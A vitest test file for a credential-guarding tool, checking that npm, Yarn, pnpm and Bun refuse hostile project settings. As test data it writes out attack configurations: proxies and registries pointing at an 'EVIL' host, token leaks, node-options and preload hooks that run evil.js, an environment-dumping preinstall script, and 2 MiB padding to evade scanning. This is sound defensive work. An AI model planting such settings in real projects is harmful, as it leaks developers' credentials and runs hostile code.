import { existsSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { listening } from '../real/listening.ts'
import { type Attacked, attacked } from './npm-attack.ts'
import { needsNpmClients } from './npm-world.ts'

/*
 * Settings of a hostile project that lead traffic to its author, run its code beside a credential or take back what the
 * person forbids. Each of these got the token once. The real manager is started; the author's server is looked at.
 */

type Files = Readonly<Record<string, string>>

const padding = `# ${'x'.repeat(1023)}\n`.repeat(2048)
const proxied = 'https-proxy=http:EVIL/\nstrict-ssl=false\n'
const manifest = (more: object) => JSON.stringify({ name: 'app', version: '1.0.0', ...more }, undefined, 2)
const toEvil = { publishConfig: { 'strict-ssl': false, 'https-proxy': 'http:EVIL/' } }

interface Refused {
  /** The file that the message names, in the project. */
  readonly file: string
  readonly files: Files
  readonly words?: readonly string[]
  readonly folder?: string
}

/** The call ends before anything is sent, and the message names the file. */
async function isRefused(
  it: Attacked,
  program: string,
  attack: Refused,
  before: readonly string[] = [],
): Promise<void> {
  const { file, files, words = ['install', 'tiny'], folder = 'app' } = attack
  it.project({ ...files, evil: '#!/bin/sh\nenv >HOME/ran\n', 'evil.js': runs })
  const all = [...before, program, ...words]
  const outcome = await it.world.run(folder, all[0] ?? '', all.slice(1))
  expect([it.heard(), existsSync(join(it.world.home, 'ran'))]).toEqual([false, false])
  expect(outcome.stdout + outcome.stderr).toContain(`credbridge: ${join(it.world.home, 'app', file)}`)
  expect(outcome.exitCode).not.toBe(0)
}

const runs = 'require("node:fs").writeFileSync("HOME/ran", JSON.stringify(process.env))\n'

/** pnpm passes on nothing that its helper says, and what Node gives a program is a socket, which nobody else can open. */
const intoPipe = ['bash', '-c', 'set -o pipefail; "$@" 2>&1 | cat', '-']

needsNpmClients('the guard', () => {
  describe('npm, through our shim', () => {
    test.each<[string, Refused]>([
      ['a file of 2 MiB', { file: '.npmrc', files: { '.npmrc': `${padding}${proxied}` } }],
      [
        'a file of 2 MiB above',
        { file: '.npmrc', files: { '.npmrc': `${padding}${proxied}`, 'sub/x': '' }, folder: 'app/sub' },
      ],
      [
        'a manifest of 2 MiB',
        { file: 'package.json', files: { 'package.json': manifest({ x: padding, ...toEvil }) }, words: ['publish'] },
      ],
      [
        'a publish by its manifest',
        { file: 'package.json', files: { 'package.json': manifest(toEvil) }, words: ['publish'] },
      ],
      [
        'a publish by its misspelt manifest',
        {
          file: 'package.json',
          files: {
            'package.json': manifest({ publishConfig: { 'strict-ssl': true, strict_ssl: false, proxy: 'http:EVIL/' } }),
          },
          words: ['publ'],
        },
      ],
      [
        'a shell elsewhere',
        { file: '.npmrc', files: { '.npmrc': 'script-shell=HOME/app/../app/evil\n' }, folder: 'app' },
      ],
      ['code for Node', { file: '.npmrc', files: { '.npmrc': 'node-options=--require=HOME/app/evil.js\n' } }],
      ['underscores', { file: '.npmrc', files: { '.npmrc': 'https_proxy=http:EVIL/\nstrict_ssl=false\n' } }],
      [
        'our file’s path',
        {
          file: '.npmrc',
          files: { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${npm_config_userconfig}\n' },
        },
      ],
    ])('%s', async (_name, attack) => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      await isRefused(it, 'npm', attack)
    })

    test.each([
      ['all', ['publish', '--workspaces']],
      ['one by its name', ['publish', '-w', 'inner']],
      ['one by its folder', ['publish', '--workspace=packages/inner']],
    ])('a workspace’s manifest: %s', async (_name, words) => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      const files = {
        'package.json': manifest({ private: true, workspaces: ['packages/*'] }),
        'packages/inner/package.json': manifest({ name: 'inner', ...toEvil }),
      }
      await isRefused(it, 'npm', { file: 'packages/inner/package.json', files, words })
    })

    test('a folder and a tarball that the words name', async () => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      const files = { 'package.json': manifest({}), 'folder/package.json': manifest({ name: 'inner', ...toEvil }) }
      await isRefused(it, 'npm', { file: 'folder/package.json', files, words: ['publish', './folder'] })
      await it.world.well('app', 'npm', ['pack', './folder', '--offline'])
      await isRefused(it, 'npm', { file: 'inner-1.0.0.tgz', files, words: ['publish', './inner-1.0.0.tgz'] })
    })

    test('scripts that the person forbids stay forbidden', async () => {
      const it = await attacked('npm', 'npm')
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      it.world.put('.npmrc', `registry=${it.world.registry.origin}/\nignore-scripts=true\n`)
      const files = {
        '.npmrc': 'ignore-scripts=false\n',
        'package.json': manifest({ scripts: { preinstall: 'env >HOME/ran' } }),
      }
      await isRefused(it, 'npm', { file: '.npmrc', files, words: ['install'] })
    })

    test('git’s helper does not run a project’s code, although no credential is given to npm', async () => {
      const it = await attacked('npm', 'npm')
      const git = await startAskingServer()
      await it.world.well('', 'credbridge', ['setup', 'npm'])
      await it.world.well('', 'credbridge', ['setup', 'git'])
      await it.world.well('', 'credbridge', ['remove', it.world.registry.origin])
      const files = {
        '.npmrc': 'node-options=--require=HOME/app/evil.js\n',
        'package.json': manifest({ dependencies: { x: `git+${git}/x.git` } }),
      }
      await isRefused(it, 'npm', { file: '.npmrc', files, words: ['install', '--ignore-scripts'] })
    })
  })

  describe('Yarn', () => {
    test('an archive elsewhere, by the lock file', async () => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      const versions = {
        '1.0.0': { name: '@corp/lib', version: '1.0.0', dist: { tarball: `${it.good.origin}/lib.tgz` } },
      }
      it.good.pages.set('/@corp%2flib', { body: JSON.stringify({ name: '@corp/lib', versions }) })
      it.project(lockedTo(`${it.evil.origin}/lib.tgz`))
      await it.world.run('app', 'yarn', ['install'])
      expect(it.evil.everything.length).toBeGreaterThan(0)
      expect(it.heard()).toBe(false)
    })

    test.each([
      ['an escape', 'npmRegistries:\n  "http:EVIL":\n    npmAlwaysAuth: true\n    npmAuthToken: "\\x24{NPM_TOKEN}"\n'],
      [
        'a folded name',
        'npmRegistries:\n  "http:EVIL":\n    npmAlwaysAuth: true\n    npmAuthToken: "${NPM_\\\n      TOKEN}"\n',
      ],
      ['flow style', 'npmRegistries: {"http:EVIL": {npmAlwaysAuth: true, npmAuthToken: "\\u0024{NPM_TOKEN}"}}\n'],
      ['what is no YAML', 'npmRegistryServer: "http:EVIL"\nnpmAuthToken: "${NPM_TOKEN}\n'],
    ])('run with a variable: %s', async (_name, text) => {
      const it = await attacked('yarn', 'yarn')
      const files = { 'yarn.lock': '', '.yarnrc.yml': `npmRegistryServer: "http:EVIL"\n${text}` }
      const before = ['credbridge', 'run', '--env', `NPM_TOKEN=${it.world.registry.origin}`, '--']
      await isRefused(it, 'yarn', { file: '.yarnrc.yml', files, words: ['add', 'tiny'] }, before)
    })

    test('a configuration of another name', async () => {
      const it = await attacked('yarn', 'yarn')
      await it.world.well('', 'credbridge', ['setup', 'yarn'])
      it.world.put('ci.yml', it.world.read('.yarnrc.yml'))
      const files = { 'yarn.lock': '', 'ci.yml': 'httpProxy: "http:EVIL"\n' }
      const before = ['env', 'YARN_RC_FILENAME=ci.yml']
      await isRefused(it, 'yarn', { file: 'ci.yml', files, words: ['npm', 'whoami'] }, before)
    })
  })

  describe.each(['pnpm', 'pnpm-10'] as const)('%s', (manager) => {
    test.each<[string, Refused]>([
      ['a proxy in .npmrc', { file: '.npmrc', files: { '.npmrc': proxied } }],
      [
        'a proxy in pnpm-workspace.yaml',
        {
          file: 'pnpm-workspace.yaml',
          files: { 'pnpm-workspace.yaml': 'httpProxy: http:EVIL/\nhttpsProxy: http:EVIL/\nstrictSsl: false\n' },
        },
      ],
      [
        'a proxy, and the folder is named',
        {
          file: 'inner/.npmrc',
          files: { 'inner/package.json': manifest({}), 'inner/.npmrc': proxied },
          words: ['-C', 'inner', 'install', 'tiny'],
        },
      ],
    ])('with our helper: %s', async (_name, attack) => {
      const it = await attacked('pnpm', manager)
      await it.world.well('', 'credbridge', ['setup', 'pnpm'])
      const words = [...(attack.words ?? ['add', 'tiny']), '--config.fetch-retries=0']
      await isRefused(it, 'pnpm', { ...attack, words }, intoPipe)
    })

    test('run with a variable', async () => {
      const it = await attacked('pnpm', manager)
      const files = { '.npmrc': 'registry=http:EVIL/\nEVIL/:_authToken=${NPM_TOKEN}\n' }
      const before = ['credbridge', 'run', '--env', `NPM_TOKEN=${it.world.registry.origin}`, '--']
      await isRefused(it, 'pnpm', { file: '.npmrc', files, words: ['add', 'tiny'] }, before)
    })
  })

  describe('Bun, by credbridge run', () => {
    test.each<[string, Refused]>([
      ['a file of 2 MiB', { file: '.npmrc', files: { '.npmrc': `${padding}${proxied}` } }],
      [
        'its own file of 2 MiB',
        { file: 'bunfig.toml', files: { 'bunfig.toml': `${padding}[install.security]\nscanner = "evil"\n` } },
      ],
      ['variables of 2 MiB', { file: '.env', files: { '.env': `${padding}HTTP_PROXY=http:EVIL/\n` } }],
      ['code before all else', { file: 'bunfig.toml', files: { 'bunfig.toml': 'preload = ["./evil.js"]\n' } }],
      ['a program in a variable', { file: '.env', files: { '.env': 'GIT_SSH_COMMAND=HOME/app/evil\n' } }],
    ])('%s', async (_name, attack) => {
      const it = await attacked('bun', 'bun')
      await isRefused(it, 'bun', { words: ['add', 'tiny'], ...attack }, ['credbridge', 'run', '--'])
    })
  })
})

function lockedTo(archive: string): Files {
  return {
    'package.json': manifest({ dependencies: { '@corp/lib': '1.0.0' } }),
    'yarn.lock': `__metadata:
  version: 9
  cacheKey: 10c0

"@corp/lib@npm:1.0.0":
  version: 1.0.0
  resolution: "@corp/lib@npm:1.0.0::__archiveUrl=${encodeURIComponent(archive)}"
  languageName: node
  linkType: hard

"app@workspace:.":
  version: 0.0.0-use.local
  resolution: "app@workspace:."
  dependencies:
    "@corp/lib": "npm:1.0.0"
  languageName: unknown
  linkType: soft
`,
  }
}

/** A server that lets nobody in who does not sign in; its origin. */
async function startAskingServer(): Promise<string> {
  const server = createServer((_request, response) => {
    response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end()
  })
  return `http://127.0.0.1:${await listening(server, onTestFinished)}`
}
